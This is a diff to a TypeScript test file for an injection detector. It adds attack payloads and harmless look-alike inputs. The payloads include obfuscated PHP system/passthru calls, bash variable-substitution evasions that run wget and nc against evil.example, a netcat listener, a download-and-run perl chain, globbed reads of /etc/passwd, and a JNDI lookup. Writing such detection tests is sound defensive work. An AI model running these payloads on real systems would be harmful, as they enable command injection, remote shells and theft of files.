@@ -19,13 +19,18 @@ const ATTACKS: Record<string, string[]> = {
   'PHP calls and evasions': [
     'system(whoami)', 'exec #comment\n (blah)', 'touch/*a\nb*/()', 'checkdate/*x*/()', 'FOOgzinflate()', 'curl_init()', '"system"(ls);', '(system)(ls);',
     "define('x', 'sys' . 'tem');(x)/* c */('uname');", "(z)[0][0]('uname');", '$__[$_[1]](7)', '$_aB_4c[@5]/*wat*/[@d] ()', '$ {@_.__}(31);', '$a //x\n()',
-    '[php]echo "test"', '{php}test{/php}', 'ssh2.sftp://user:pass@example.com:22/x',
+    '[php]echo "test"', '(sy.(st).em)(@id)', "('pa'.'ss'.'thru')('id')", '{php}test{/php}', 'ssh2.sftp://user:pass@example.com:22/x',
   ],
   'Java': ['java.Runtime', 'java.evil.ProcessBuilder', 'rO0ABXNy', 'AKztAAVzcg==', 'AACs7QAFc3I=', '${jndi:ldap&#00000000000000000000000058;//evil.example/a}'],
   'Node, Ruby and Perl': ['while(Infinity);', 'while(this)', 'while(new Date);', 'while(!NaN)', 'process[mainModule', 'Process.spawn("id")', 'IO.popen("id")', "@{[system 'id']}", '{"x":"$7:Module:prototype:_compile"}'],
   'SSRF spellings': ['http:127.0.0.1', 'http:/2852039166', 'http:0xA9FEA9FE', 'http:[::ffff:a9fe:a9fe]', 'http://google.com:80 &@127.0.0.1:22/# @google.com:80/', 'https://metadata.packet.net/userdata'],
   'files': ['/../etc/hostname', 'jar:http://evil.example/b.zip!/a.class', 'www.example.com;c$@at+/et$@c/pas$@swd', "x;cat /e't'c/pa's'swd"],
-  'globs and shell escapes': ['cat /et*/*wd', 'x; tail -n 5 /v?r/l?g/*', 'find /etc -name passwd -exec cat {} +', 'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh', "awk 'BEGIN {system(\"id\")}'"],
+  'variables as commands and characters': [
+    ';$u wget evil.example/x', '|$a cat notes.txt', 'n$u\\c$u -lvp 4444', 'g=nc;$g evil.example 80', 'c1=c;c2=a;c3=t;$c1$c2$c3 notes.txt',
+    '${PATH:0:1}', 'cat ${HOME%/*}', '$((7*6))', '$[2+2]', 'echo ${x//a/b}',
+  ],
+  'command chains': [';date -f secrets.txt', ';flock -u /', 'http://evil.example/x.php;lwp-download http://evil.example/a.jpg;perl a.jpg;rm -rf a.jpg'],
+  'globs and shell escapes': ['{/?s?/?i?/c?t,}', '/?i?/c?t notes.txt', 'cat /et*/*wd', 'x; tail -n 5 /v?r/l?g/*', 'find /etc -name passwd -exec cat {} +', 'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh', "awk 'BEGIN {system(\"id\")}'"],
 };
 
 /** Requests whose payload is not a plain field value. */
@@ -53,7 +58,9 @@ const BENIGN: string[] = [
   'Hi,\nUSER guide is outdated', 'the system(s) we use', 'Section 5(a)(1) applies', 'see (a)(b) below', 'console log shows nothing',
   'java.util.List is an interface', 'Runtime error in java.lang.RuntimeException', 'while we wait', 'while (i < 10) i++', 'process the refund',
   'localhost is fine for dev', '> /tmp is full, please clean it', 'name__icontains', 'https://example.com/help', 'jar of cookies: 3',
-  '../guide/setup.md', 'Routes like /api/*/users are matched first', 'How do I find files older than 7 days and delete them with -exec rm in a cron job?', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'The {php} tag is deprecated',
+  '../guide/setup.md', 'Routes like /api/*/users are matched first', 'How do I find files older than 7 days and delete them with -exec rm in a cron job?', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'Total: ${total}', 'JSONPath $[0].name or $[-1:] or $[*].id', 'price=5;$price total',
+  'myfunction(){ echo hello }', 'render() { return this.html }', '(Mr.Smith)(2)', '(e.g.)(see below)',
+  'Saved photo.jpg. Then I uploaded notes.txt, report.pdf. Can you check?', 'The {php} tag is deprecated',
 ];
 
 for (const [name, payloads] of Object.entries(ATTACKS)) {
